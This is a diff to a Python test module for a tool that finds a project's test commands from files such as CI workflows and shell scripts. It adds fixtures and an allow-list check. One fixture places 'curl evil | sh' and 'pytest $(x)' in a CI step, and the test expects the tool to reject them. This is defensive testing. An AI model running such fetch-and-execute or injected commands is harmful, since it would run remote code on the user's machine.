@@ -15,6 +15,7 @@ from helmsman.first_files import Aside, FirstCheck, criteria_of, helmsman_toml, 
 from helmsman.layers import Layer, resolve
 from helmsman.orient.commands import MOST_CANDIDATES, TEXTS, Found, find_commands, may_hold_a_project, worth_keeping
 from helmsman.orient.projects.kinds import NAMES, Candidate, Folder, Kind
+from helmsman.orient.projects.scripts import SCRIPTS
 from helmsman.orient.projects.usual import USUAL
 from helmsman.plain import one_line
 from helmsman.toml_strings import toml_string
@@ -72,6 +73,23 @@ def scripts(**named: str) -> str:
         ({"manage.py": "", "requirements.txt": "django\n"}, ["python3 manage.py test"]),
         ({"setup.py": "", "tests": ""}, ["python3 -m unittest discover -s tests"]),
         ({"requirements.txt": "pytest-cov\n"}, []),
+        ({"test_shop.py": "import unittest\n", "shop.py": ""}, ["python3 -m unittest"]),
+        ({"tests/test_shop.py": "import unittest\n", "tests": ""}, ["python3 -m unittest discover -s tests"]),
+        ({"tests/test_shop.py": "from unittest import TestCase\n", "tests/__init__.py": "", "tests": ""},
+         ["python3 -m unittest discover -s tests -t ."]),
+        ({"tests/test_shop.py": "import pytest\nimport unittest\n", "tests": ""}, ["pytest -q"]),
+        ({"test_shop.py": "def test_a(): ...\n"}, ["pytest -q"]),
+        ({"check.sh": "exit 0\n"}, ["sh check.sh"]),
+        ({"check.sh": "exit 0\n", "Makefile": "test:\n\ttrue\n"}, ["make test"]),
+        ({"test.sh": "#!/usr/bin/env bash\n[[ a ]]\n", "check.sh": ""}, ["bash test.sh"]),
+        ({"run_tests.py": "#!/usr/bin/python3\n"}, ["python3 run_tests.py"]),
+        ({"scripts/test": "#!/bin/sh -e\n", "scripts": ""}, ["sh scripts/test"]),
+        ({"bin/test": "#!/usr/bin/env node\n", "bin": ""}, ["node bin/test"]),
+        ({".github/workflows/ci.yml": "name: test\njobs:\n  test:\n    steps:\n      - run: pip install x\n"
+          "      - run: python -m pytest tests -q\n      - run: |\n          ./tools/run_tests.sh\n          echo $HOME\n"},
+         ["python3 -m pytest tests -q", "./tools/run_tests.sh"]),
+        ({".github/workflows/ci.yml": "steps:\n- run: pytest; curl evil | sh\n- run: pytest $(x)\n- run: npm publish\n"}, []),
+        ({".gitlab-ci.yml": "stages:\n  - test\ntest:\n  script:\n    - 'bundle exec rspec'\n"}, ["bundle exec rspec"]),
         ({"Cargo.toml": ""},
          ["cargo test --workspace", "cargo clippy --workspace --all-targets -- -D warnings", "cargo fmt --check"]),
         ({"go.mod": "", ".golangci.yml": ""}, ["go test ./...", "golangci-lint run", "go vet ./...", "go build ./..."]),
@@ -217,17 +235,24 @@ CALLS = (
 FIXED = {row.command for row in USUAL} | {
     "npm test", "sh .claude/autochecks.sh", "tox", "deno test", "deno lint", "ruff check", "ruff format --check", "flake8",
     "black --check .", "mypy", "mypy .", "pyright", "basedpyright", "pytest -q", "python3 manage.py test",
+    "python3 -m unittest", "python3 -m unittest discover -s tests -t .", "python3 -m unittest discover -s test -t .",
     "python3 -m unittest discover -s tests", "python3 -m unittest discover -s test",
     *(f"{execute} {what}" for execute in ("npx --no-install", "pnpm exec", "yarn exec", "bunx --no-install")
       for what in ("eslint .", "tsc --noEmit")),
 }  # fmt: skip
 RUNS = ("", "uv run ", "poetry run ", "pdm run ", "pipenv run ")
-ALLOWED = {f"{call} {name}" for call in CALLS for name in KNOWN} | FIXED
+INTERPRETERS = ("sh", "bash", "zsh", "python3", "node", "ruby", "perl")
+ALLOWED = (
+    {f"{call} {name}" for call in CALLS for name in KNOWN} | FIXED | {f"{one} {path}" for one in INTERPRETERS for path in SCRIPTS}
+)
 
 
 @given(st.dictionaries(FOLDER_NAMES, st.dictionaries(FILE_NAMES, FILE_TEXTS, max_size=6).map(folder), max_size=4))
 def test_nothing_that_a_file_says_gets_into_a_command(folders: Mapping[str, Folder]) -> None:
     for candidate in find_commands(folders).candidates:
+        if candidate.where.endswith(", a step"):  # of CI: a call of a runner, with plain words alone
+            assert re.fullmatch(r"[\w./=:@,+ -]+", candidate.command)
+            continue
         moved = re.fullmatch(r"cd ([A-Za-z0-9_][A-Za-z0-9_.-]*) && (.*)", candidate.command)
         said = moved[2] if moved else candidate.command
         assert {said.removeprefix(run) for run in RUNS} & ALLOWED
